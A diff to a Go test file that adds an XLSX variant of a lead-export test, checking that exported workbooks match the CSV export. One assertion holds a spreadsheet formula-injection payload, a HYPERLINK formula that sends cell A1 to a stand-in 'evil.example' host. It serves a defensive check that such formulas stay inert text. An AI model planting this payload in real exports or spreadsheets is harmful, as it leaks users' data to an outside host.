@@ -12,6 +12,7 @@ import (
 
 	"github.com/PuerkitoBio/goquery"
 	"github.com/stretchr/testify/require"
+	"github.com/xuri/excelize/v2"
 
 	"github.com/seed-3405227d/frontdesk/backend/db"
 	"github.com/seed-3405227d/frontdesk/backend/lead"
@@ -213,6 +214,18 @@ func (b *browser) export(t *testing.T, query string) [][]string {
 	return rows
 }
 
+// workbook are the rows of an answer's workbook.
+func (a answer) workbook(t *testing.T) [][]string {
+	t.Helper()
+	require.Equal(t, http.StatusOK, a.status)
+	book, err := excelize.OpenReader(strings.NewReader(a.body))
+	require.NoError(t, err)
+	defer book.Close()
+	rows, err := book.GetRows(book.GetSheetName(0))
+	require.NoError(t, err)
+	return rows
+}
+
 // Operators sort leads by tags, and say which of them are sales.
 func TestTagsAndSales(t *testing.T) {
 	each(t, func(t *testing.T, d *desk) {
@@ -283,6 +296,11 @@ func TestExport(t *testing.T) {
 		evil := vera.export(t, "form=Evil")
 		require.Contains(t, evil[len(evil)-1][6], `'=HYPERLINK("https://evil.example?"&A1)`, "the text itself stays")
 		require.Equal(t, "a \"quoted\", text\nof lines 0", evil[len(evil)-1][10])
+
+		book := vera.get("/leads/export?format=xlsx&form=Evil").workbook(t)
+		require.Len(t, book, len(evil))
+		require.Equal(t, evil[0], book[0])
+		require.Equal(t, formulas[0], book[len(book)-1][6], "in a workbook it is a text as it stands")
 	})
 }
 
